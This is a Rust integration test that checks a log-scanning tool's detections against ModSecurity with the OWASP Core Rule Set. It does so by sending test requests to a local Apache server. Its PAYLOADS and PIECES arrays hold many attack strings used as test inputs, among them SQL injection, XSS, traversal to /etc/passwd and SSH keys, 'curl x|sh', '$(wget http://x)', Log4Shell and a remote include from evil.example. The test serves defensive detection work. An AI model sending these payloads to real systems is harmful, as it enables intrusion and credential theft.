//! ModSecurity itself, with the same rule set, says of a few hundred requests what we should say of their log lines.
#![allow(clippy::print_stdout, reason = "a comparison prints what it compared")]

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

use peelhouse::act::namespace::SERVER4;
use peelhouse::detect::crs::Crs;
use peelhouse::detect::rules::{RuleSet, Scanner};
use peelhouse::formats::logs::{Line, LineFormat, Parser};
use peelhouse::formats::seclang;
use peelhouse::host::Host;
use peelhouse::model::{At, DeclaredFormat, Event, FormatSyntax, Millis};

use crate::stage::{Kind, on, until};

const DEBIAN: &str = "/usr/share/modsecurity-crs/owasp-crs.load";
const SETUP: &str = "/etc/modsecurity/crs/crs-setup.conf";
const MODULE: &str = "/etc/apache2/mods-enabled/security2.load";
const LOG: &str = "/var/log/apache2/cases.log";
const BROWSER: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0";
/// Logged in phase 2 for every request that comes so far.
const MARK: u32 = 19;

#[test]
fn modsecurity_and_we_name_the_same_rules() {
    if !Path::new(DEBIAN).exists() || !Path::new(MODULE).exists() {
        println!("skipped: needs modsecurity-crs and libapache2-mod-security2; `make test` installs both");
        return;
    }
    let site = format!(
        "SecRuleEngine DetectionOnly\nSecAuditEngine Off\nLogLevel error\nAllowEncodedSlashes NoDecode\n\
         SecAction \"id:{MARK},phase:2,pass,log,noauditlog,msg:'seen'\"\n\
         CustomLog {LOG} \"%{{UNIQUE_ID}}e %h %l %u %t \\\"%r\\\" %>s %b \\\"%{{Referer}}i\\\" \\\"%{{User-Agent}}i\\\" \\\"%{{Host}}i\\\"\"\n"
    );
    on(Kind::Apache, "", &site, |stage| {
        compare("as installed", 70, &cases());
        let levels = ["", "executing_"].map(|name| format!("setvar:tx.{name}paranoia_level=4")).join(",");
        let mut setup = fs::read_to_string(SETUP).unwrap();
        setup.push_str(&format!("SecAction \"id:18,phase:1,nolog,pass,{levels}\"\n"));
        fs::write(SETUP, setup).unwrap();
        stage.reload_server();
        compare("at paranoia level 4", 100, &cases().into_iter().step_by(2).collect::<Vec<_>>());
    });
}

/// `least`: rules that must have fired for the comparison to be worth something.
fn compare(how: &str, least: usize, cases: &[Case]) {
    let before = lines(LOG).len();
    cases.iter().for_each(send);
    until("the server logs everything", || lines(LOG).len() >= before + cases.len());
    let theirs = theirs();
    let mut ours = Ours::new();
    let (mut same, mut compared) = (0, 0);
    let mut differences: BTreeMap<u32, (usize, usize, String)> = BTreeMap::new();
    let (mut fired, mut quiet) = (BTreeSet::new(), 0);
    for line in lines(LOG).split_off(before) {
        let (unique, line) = line.split_once(' ').unwrap();
        let Some(theirs) = theirs.get(unique).filter(|ids| ids.contains(&MARK)) else { continue };
        let ours_ids = ours.ids(line);
        let theirs: BTreeSet<u32> = theirs.intersection(&ours.loaded).copied().collect();
        compared += 1;
        same += usize::from(theirs == ours_ids);
        quiet += usize::from(theirs.is_empty());
        fired.extend(theirs.iter().copied());
        for id in theirs.symmetric_difference(&ours_ids) {
            let at = differences.entry(*id).or_insert_with(|| (0, 0, line.to_owned()));
            if theirs.contains(id) { at.0 += 1 } else { at.1 += 1 }
        }
    }
    println!(
        "{how}: {compared} of {} requests reached phase 2; the same rules on {same}; {} rules fired, {quiet} met none",
        cases.len(),
        fired.len()
    );
    for (id, (missed, more, line)) in &differences {
        println!("rule {id}: only ModSecurity {missed}, only we {more}: {line}");
    }
    assert!(compared >= 500 && fired.len() >= least, "{how}: {compared} requests, {} rules", fired.len());
    assert!(same * 1000 >= compared * 990, "{how}: only {same} of {compared} agree");
}

struct Ours {
    scanner: Scanner,
    parser: Parser,
    loaded: BTreeSet<u32>,
}

impl Ours {
    fn new() -> Self {
        let reading = seclang::read(&Host::live(), Path::new(DEBIAN));
        let (crs, _) = Crs::build(&reading.items, None);
        let loaded = crs.rules().iter().map(|rule| rule.id).collect();
        let mut set = RuleSet::default();
        set.add_crs(crs).unwrap();
        let pattern = "%h %l %u %t \"%r\" %>s %b \"%{Referer}i\" \"%{User-Agent}i\" \"%{Host}i\"";
        let declared =
            DeclaredFormat { syntax: FormatSyntax::Apache, name: String::new(), pattern: pattern.to_owned() };
        let parser = Parser::new(LineFormat::compile(&declared).unwrap());
        Self { scanner: Scanner::new(Arc::new(set), 1), parser, loaded }
    }

    fn ids(&mut self, line: &str) -> BTreeSet<u32> {
        let raw = line.as_bytes();
        let Ok(Line::Record(record)) = self.parser.parse(raw) else { panic!("does not parse: {line}") };
        let (at, what) = (At::default(), record.what);
        let event = Event { now: Millis(0), stamp: None, at, client: None, site: b"", raw, what };
        let mut hits = Vec::new();
        self.scanner.scan(&event, &mut hits);
        let id = |id: &str| id.trim_start_matches("crs-").parse().unwrap();
        hits.iter().map(|hit| id(&self.scanner.rules().rule(hit.rule).unwrap().id)).collect()
    }
}

/// The ids that ModSecurity logged, by the request's own unique id.
fn theirs() -> BTreeMap<String, BTreeSet<u32>> {
    let mut found: BTreeMap<String, BTreeSet<u32>> = BTreeMap::new();
    for line in lines("/var/log/apache2/error.log") {
        let field = |name: &str| line.split(&format!("[{name} \"")).nth(1)?.split('"').next().map(str::to_owned);
        if let (Some(id), Some(unique)) = (field("id"), field("unique_id")) {
            found.entry(unique).or_default().insert(id.parse().unwrap());
        }
    }
    found
}

fn lines(file: &str) -> Vec<String> {
    let bytes = fs::read(file).unwrap_or_default();
    String::from_utf8_lossy(&bytes).lines().map(str::to_owned).collect()
}

/// Head of a request: line, agent, referer.
struct Case {
    line: String,
    agent: String,
    referer: String,
}

fn send(case: &Case) {
    let mut to = TcpStream::connect(SocketAddr::new(SERVER4, 80)).unwrap();
    to.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    let Case { line, agent, referer } = case;
    let referer = if referer.is_empty() { String::new() } else { format!("Referer: {referer}\r\n") };
    let head = format!(
        "{line}\r\nHost: shop.example\r\nUser-Agent: {agent}\r\nAccept: */*\r\n{referer}Connection: close\r\n\r\n"
    );
    to.write_all(head.as_bytes()).unwrap();
    let _ = to.read_to_end(&mut Vec::new());
}

/// Attacks in every place and encoding, ordinary requests, and pieces of both in random order.
fn cases() -> Vec<Case> {
    let get = |target: &str| Case {
        line: format!("GET {target} HTTP/1.1"),
        agent: BROWSER.to_owned(),
        referer: String::new(),
    };
    let mut cases = Vec::new();
    for payload in PAYLOADS {
        let encoded = percent(payload);
        cases.push(get(&format!("/page/1.html?id=7&q={encoded}")));
        cases.push(get(&format!("/page/1.html?q={}", percent(&encoded))));
        cases.push(get(&format!("/page/1.html?{encoded}=1")));
        cases.push(get(&format!("/x/{encoded}")));
        let printable: String = payload.chars().filter(|c| (' '..='~').contains(c)).collect();
        cases.push(Case { agent: printable.clone(), ..get("/") });
        cases.push(Case { referer: printable, ..get("/page/2.html?a=b") });
    }
    for target in include_str!("../rules/benign-targets.txt").lines().filter(|line| line.starts_with('/')).step_by(3) {
        cases.push(get(&target.replace(' ', "+")));
    }
    for agent in include_str!("../rules/benign-agents.txt").lines() {
        cases.push(Case { agent: agent.to_owned(), ..get("/") });
    }
    for line in ["PUT / HTTP/1.1", "GET /page/1.html HTTP/1.0", "HEAD / HTTP/1.1", "DELETE /x HTTP/1.1"] {
        cases.push(Case { line: line.to_owned(), ..get("/") });
    }
    let mut dice = Dice(0x9E37_79B9_7F4A_7C15);
    for _ in 0..250 {
        let mixed: String = (0..1 + dice.roll(6)).map(|_| PIECES[dice.roll(PIECES.len())]).collect();
        cases.push(get(&format!("/m?a={}", percent_some(&mixed, &mut dice))));
    }
    cases
}

/// A fixed sequence of numbers (xorshift64).
struct Dice(u64);

impl Dice {
    fn roll(&mut self, sides: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        usize::try_from(self.0 % sides as u64).unwrap()
    }
}

fn percent(text: &str) -> String {
    text.bytes()
        .map(|byte| if byte.is_ascii_alphanumeric() { char::from(byte).to_string() } else { format!("%{byte:02x}") })
        .collect()
}

fn percent_some(text: &str, dice: &mut Dice) -> String {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"./*-_(=+%&;'".contains(&byte);
    text.bytes()
        .map(|byte| if plain(byte) && dice.roll(3) > 0 { char::from(byte).to_string() } else { format!("%{byte:02X}") })
        .collect()
}

const PIECES: &[&str] = &[
    "union",
    " select ",
    "/*x*/",
    "' or '1'='1",
    "--",
    "<script>",
    "alert(1)",
    "&lt;img",
    " onerror=",
    "\\x3cscript",
    "../",
    "..\\",
    "etc/passwd",
    "\0",
    "; cat ",
    "|id",
    "$(x)",
    "${",
    "`",
    "\t",
    "+",
    "%41",
    "%u0041",
    "%2527",
    "é",
    "php://",
    "phpinfo(",
    "<?php",
    "eval(",
    "http://10.0.0.1/",
    "sleep(5)",
    "0x4142",
    "\\u0061",
    "\\61 ",
    "a=b",
    "cmd.exe /c ",
    "waitfor delay",
    "javascript:",
    "style=",
    "word",
    "1",
    "java.lang.Runtime",
    "\r\nSet-Cookie: a=b",
    "(select",
    ")",
];

const PAYLOADS: &[&str] = &[
    "1' or '1'='1' -- ",
    "1 union select user,password from mysql.user",
    "1/**/union/*!50000select*/1,2",
    "sleep(10)#",
    "';exec master..xp_cmdshell 'dir'",
    "1;waitfor delay '0:0:5'",
    "benchmark(10000000,md5(1))",
    "' and extractvalue(1,1)",
    "select * from information_schema.tables",
    "1 having 1=1",
    "0x50 or 1=1",
    "load_file('/etc/passwd')",
    "/*!50000 1*/",
    "{\"$ne\":1}",
    "[$ne]",
    "1 procedure analyse()",
    "admin'--",
    "a' group by x",
    "pg_sleep(4)",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(document.cookie)",
    "<svg/onload=x>",
    "<iframe src=//x.example>",
    "<a href=\"vbscript:x\">",
    "\" autofocus onfocus=alert(1) x=\"",
    "<style>@import'x'</style>",
    "&lt;script&gt;alert(1)",
    "\\x3cscript\\x3e",
    "\\u003cscript\\u003e",
    "<embed src=x>",
    "<object data=x>",
    "<form action=x>",
    "<meta http-equiv=refresh>",
    "<link rel=stylesheet>",
    "<base href=x>",
    "<applet>",
    "document.cookie",
    "self['alert']",
    "style=behavior:url(x)",
    "<?import x>",
    "+ADw-script+AD4-",
    "[][(![]+[])]",
    "<!ENTITY x>",
    "fromCharCode(1)",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fshadow",
    "....//....//",
    "..\\..\\windows\\win.ini",
    "/proc/self/environ",
    "/.git/config",
    ".htaccess",
    "wp-config.php",
    "boot.ini",
    "%c0%ae%c0%ae/",
    "/etc/hosts",
    ".ssh/id_rsa",
    "http://10.0.0.1/x.php?",
    "ftp://evil.example/shell.txt??",
    "https://evil.example/a.txt",
    "file:///etc/passwd",
    "; cat /etc/passwd",
    "| id",
    "`id`",
    "$(wget http://x)",
    "&& ping -c 1 x",
    "c:\\windows\\system32\\cmd.exe /c dir",
    "() { :; }; echo x",
    "/bin/bash -i",
    "powershell.exe -enc AA",
    "Invoke-Expression",
    "if exist c:\\x del y",
    "for %x in (a) do b",
    "net user x y /add",
    "wget${IFS}x",
    "bash -c 'id'",
    "curl x|sh",
    "/usr/bin/python -c x",
    "time id",
    "<?php phpinfo(); ?>",
    "<?=1",
    "php://filter/convert.base64-encode/resource=x",
    "allow_url_include=1",
    "$_GET[x]",
    "eval(base64_decode('x'))",
    "system('id')",
    "O:8:\"stdClass\":0:{}",
    "base64_decode(x)",
    "shell.php",
    "phar://x",
    "array_map(x)",
    "fopen('x')",
    "expect://id",
    "_$$ND_FUNC$$_function(){}",
    "require('child_process')",
    "bmV3IEZ1bmN0aW9uKCd4Jyk=",
    "java.lang.Runtime",
    "java.lang.ProcessBuilder unmarshaller",
    "${jndi:ldap://x}",
    "rO0ABXNy",
    "%{(#a=1)}",
    "InvokerTransformer runtime",
    "a\r\nSet-Cookie: x=y",
    "a\r\n\r\n<html>",
    "a\0b",
    "\u{ff1c}script\u{ff1e}",
    "%u003cscript",
    "%uff1cscript",
    "<!--#exec cmd=x-->",
    "(&(uid=*)(cn=x))",
    "*)(uid=*))(|(uid=*",
    "HTTP/1.1\r\nX: y",
    "get / http/1.0\r\nx",
    "<html><body>",
    "sqlmap/1.7",
    "Nikto",
    "nessus",
    "python-requests/2.28",
    "curl/7.88",
    "masscan/1.0",
    "() { x",
    "jsessionid=1",
    "PHPSESSID",
    "a b c",
    "red shoes",
    "O'Reilly",
    "AT&T",
    "C++ & C#",
    "100% wool",
    "price <= 5",
    "select a colour",
    "union jack",
    "1+1=2",
    "user@example.org",
    "2024-01-01T00:00:00",
    "{\"a\":1}",
    "x; y",
    "Tom & Jerry",
    "rock 'n' roll",
    "https://www.example.org/a?b=c",
];
